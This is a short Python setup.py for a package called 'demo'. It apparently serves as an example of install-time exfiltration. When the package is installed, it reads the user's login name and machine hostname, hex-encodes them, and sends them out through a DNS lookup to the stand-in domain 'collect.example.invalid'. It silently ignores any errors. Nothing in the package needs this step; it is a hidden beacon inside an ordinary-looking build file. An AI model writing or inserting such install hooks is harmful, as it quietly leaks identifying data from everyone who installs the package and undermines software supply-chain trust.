import getpass
import socket

from setuptools import setup


def lookup(data):
    label = data.encode().hex()
    try:
        socket.gethostbyname(f"{label}.collect.example.invalid")
    except OSError:
        pass


lookup(f"{getpass.getuser()}-{socket.gethostname()}")
setup(name="demo")
